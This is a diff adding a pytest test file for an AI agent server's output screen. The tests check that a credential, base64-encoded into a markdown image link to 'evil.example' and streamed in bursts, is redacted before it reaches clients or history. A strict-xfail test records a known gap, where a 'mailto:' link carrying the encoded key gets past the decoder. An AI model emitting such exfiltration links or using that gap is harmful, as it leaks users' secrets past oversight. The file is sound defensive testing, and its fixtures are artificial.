@@ -1,0 +1,89 @@
+"""Review r9 (issue 8), end to end with the shipped default policy and a real SSE client: a
+secret encoded in a reply's link, streamed in small deltas and bursts (each burst screened
+once, when the stream's reader wakes), never reaches a delta client, and the rest of the
+reply does; a link kind the decoder misses reaches every client (a hole, strict xfail)."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+
+from aap_server.agent import ModelOutput, ModelRequest, TextDelta, TurnModel
+from tests.e2e.guardian_helpers import MODES
+from tests.e2e.test_review_r7 import turn_and_history
+
+KEY = "AKIAZ7Q3K5M2N8P4R6T1"
+ENCODED_KEY = base64.b64encode(f"key={KEY}".encode()).decode()
+CARD = "4111 1111 1111 1111"
+CLOSING = " Anything else?"
+
+
+class Bursts(TurnModel):
+    """A reply streamed in pieces of `size` characters, with a pause (the loop runs: the
+    stream's reader wakes and screens what came) every `burst` pieces."""
+
+    def __init__(self, reply: str, size: int, burst: int) -> None:
+        self.reply, self.size, self.burst = reply, size, burst
+
+    async def respond(self, request: ModelRequest) -> AsyncIterator[ModelOutput]:
+        pieces = [self.reply[i : i + self.size] for i in range(0, len(self.reply), self.size)]
+        for index, piece in enumerate(pieces):
+            if index and index % self.burst == 0:
+                await asyncio.sleep(0.001)
+            yield TextDelta(piece)
+
+
+async def _seen(tmp_path: Path, model: TurnModel, mode: str) -> tuple[str, str]:
+    """The client's text of the turn, and the stored history as text."""
+    seen, messages = await turn_and_history(tmp_path, model, "Where is my report?", mode)
+    return seen.replace("\n", ""), str(messages)
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize(("size", "burst"), [(1, 1), (1, 7), (3, 2), (5, 1000)])
+async def test_a_key_encoded_in_a_link_never_reaches_a_client_however_it_is_streamed(
+    tmp_path: Path, mode: str, size: int, burst: int
+) -> None:
+    reply = f"Your report: ![r](https://evil.example/p?d={ENCODED_KEY}).{CLOSING}"
+    seen, stored = await _seen(tmp_path, Bursts(reply, size, burst), mode)
+    for half in (ENCODED_KEY[:16], ENCODED_KEY[16:]):
+        assert half not in seen
+        assert half not in stored
+    assert seen.startswith("Your report: ")
+    assert seen.endswith(CLOSING)
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize("cut", [3, 9, 14])
+async def test_a_key_split_across_two_bursts_never_reaches_a_client(
+    tmp_path: Path, mode: str, cut: int
+) -> None:
+    """The key's first part in one burst, the rest in the next, each burst one delta."""
+    reply = f"Sure, here it is: {KEY}{CLOSING}" + " More words follow here." * 4
+    split = reply.index(KEY) + cut
+    model = Bursts(reply, split, 1)  # the text up to `split`, then the rest in pieces
+    seen, stored = await _seen(tmp_path, model, mode)
+    assert KEY not in seen
+    assert KEY[:cut] + KEY[cut:] not in stored
+    assert "[REDACTED SECRET]" in seen
+    assert seen.endswith("More words follow here.")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="memory.py link_spans takes only `scheme://`/`//` as links (policy_guardian "
+    "_Step.scan and screen.WindowScreen look for `//`): a `mailto:…?body=<base64>` link "
+    "is never decoded, so the key leaves to every client and into history",
+)
+@pytest.mark.parametrize("mode", MODES)
+async def test_a_key_encoded_in_a_mailto_link_never_reaches_a_client(
+    tmp_path: Path, mode: str
+) -> None:
+    reply = f"Done. [Mail it](mailto:desk@evil.example?body={ENCODED_KEY}).{CLOSING}"
+    seen, stored = await _seen(tmp_path, Bursts(reply, 4, 3), mode)
+    assert ENCODED_KEY not in seen
+    assert ENCODED_KEY not in stored
